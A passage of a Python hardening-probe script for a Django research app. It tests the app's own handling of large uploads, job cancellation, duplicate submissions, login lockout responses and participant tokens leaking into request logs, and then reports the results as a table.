        {"attacks": ["tfidf"], "methods": ["clear"], "background": "uploaded", "folds": 3,
         "seed": 0, "documents": [SimpleUploadedFile("bg.csv", big)]},
    )  # fmt: skip
    case(category, "a 30 MB background upload is stored and queued", AttackRun.objects.exists())
    AttackRun.objects.all().delete()
    Job.objects.all().delete()
    from rest_framework.test import APIClient

    api = APIClient(raise_request_exception=False)
    api.force_authenticate(study.owner)
    job = Job.objects.create(kind=Job.Kind.ANONYMIZE_STUDY, study=study)
    api.post(f"/api/jobs/{job.pk}/cancel/")
    job.refresh_from_db()
    case(category, "a queued job cannot be cancelled", job.status != "cancelled")


def probe_small_things() -> None:
    import logging

    from django.conf import settings
    from rest_framework.test import APIClient

    from intruder.risk.models import AttackRun
    from tests.intruder.factories import make_participant, make_study, make_texts, make_user

    category = "24 small things"
    study = make_study()
    make_texts(study=study, count=4)
    api = APIClient(raise_request_exception=False)
    api.force_authenticate(study.owner)
    payload = {"study": study.pk, "attacks": ["tfidf"], "methods": ["clear"], "folds": 2}
    for _ in range(2):
        api.post("/api/attack-runs/create/", payload, format="json")
    case(category, "a double click queues two identical attack runs", AttackRun.objects.count() > 1)
    settings.AXES_ENABLED, settings.AXES_FAILURE_LIMIT = True, 3
    previous_rate, settings.INTRUDER_TOKEN_RATE = (
        getattr(settings, "INTRUDER_TOKEN_RATE", None),
        None,
    )
    make_user(username="lockme", password="right-password-9")
    token_api = APIClient(REMOTE_ADDR="203.0.113.44", raise_request_exception=False)
    for i in range(3):
        token_api.post("/api/auth/token/", {"username": "lockme", "password": f"g{i}"})
    locked = token_api.post(
        "/api/auth/token/", {"username": "lockme", "password": "right-password-9"}
    )
    settings.INTRUDER_TOKEN_RATE = previous_rate
    case(
        category,
        "a locked-out token request answers something other than 429",
        locked.status_code != 429,
    )
    participant = make_participant(study=study)
    records = []

    class Keep(logging.Handler):
        def emit(self, record):
            records.append(record.getMessage())

    handler = Keep()
    logging.getLogger("django.request").addHandler(handler)
    try:
        client().post(f"/p/{participant.token}/", {})
        client().get(f"/p/{participant.token}zz/")
    finally:
        logging.getLogger("django.request").removeHandler(handler)
    case(
        category,
        "a participant token appears in the request log",
        any(participant.token in r for r in records),
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=None)
    parser.add_argument("--label", default=str(CODE))
    parser.add_argument(
        "--only",
        default="",
        help="comma-separated probe names (e.g. probe_crowd_originals), 'round2' for the "
        "issue 22 probes or 'round3' for issue 38's; default: all",
    )
    args = parser.parse_args(argv)
    setup_django(tempfile.mkdtemp(prefix="intruder-probe-"))
    from django.conf import settings

    for name in ("INTRUDER_DEMO",):  # the probe plays production, not the demo
        if hasattr(settings, name):
            setattr(settings, name, False)
    probes = [probe_enrolment, probe_linked, probe_withdrawal, probe_exports, probe_bounds,
              probe_deploy, probe_bruteforce, probe_imports, probe_api_overflow,
              probe_review_page, probe_nul_writer,
              # round 2 (issue 22)
              probe_crowd_originals, probe_psi_annotator_pull, probe_removed_member_api,
              probe_interrupted_import, probe_annotation_csv, probe_crowd_work,
              probe_model_in_request, probe_newer_importers, probe_attack_run_api,
              probe_writer_close, probe_uploads_and_jobs, probe_small_things]  # fmt: skip
    # round 3 (issue 38): each probe takes `case`, in its own module
    round3 = [partial(probe, case) for probe in ROUND3]
    for probe, bound in zip(ROUND3, round3, strict=True):
        bound.__name__ = probe.__name__
    probes += round3
    if args.only:
        wanted = set(args.only.split(","))
        if "round2" in wanted:
            first, last = probes.index(probe_crowd_originals), probes.index(probe_small_things)
            wanted |= {p.__name__ for p in probes[first : last + 1]}
        if "round3" in wanted:
            wanted |= {p.__name__ for p in round3}
        probes = [p for p in probes if p.__name__ in wanted]
    for probe in probes:
        try:
            probe()
        except Exception as error:  # a probe that cannot run on this code is reported
            case(probe.__name__, f"probe crashed: {type(error).__name__}: {error}"[:200], True)
    table = {
        category: {
            "tried": len(cases),
            "failed": sum(failed for _, failed in cases),
            "cases": [{"case": n, "failed": f} for n, f in cases],
        }
        for category, cases in sorted(
            ((c, cases) for c, cases in results.items() if c[0].isdigit()),
            key=lambda kv: int(kv[0].split()[0]),
        )
    } | {k: v for k, v in results.items() if not k[0].isdigit()}
    from did_work import require_work

    require_work("hardening_probe", cases=sum(len(cases) for cases in results.values()))
    for category, row in table.items():
        if isinstance(row, dict):
            print(f"{category:40s} tried {row['tried']:3d}  failed {row['failed']:3d}")
        else:
            print(category, row)
    if args.out:
        args.out.parent.mkdir(parents=True, exist_ok=True)
        args.out.write_text(
            json.dumps(
                {"code": args.label, "probes": [p.__name__ for p in probes], "categories": table},
                indent=2,
            )
            + "\n"
        )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
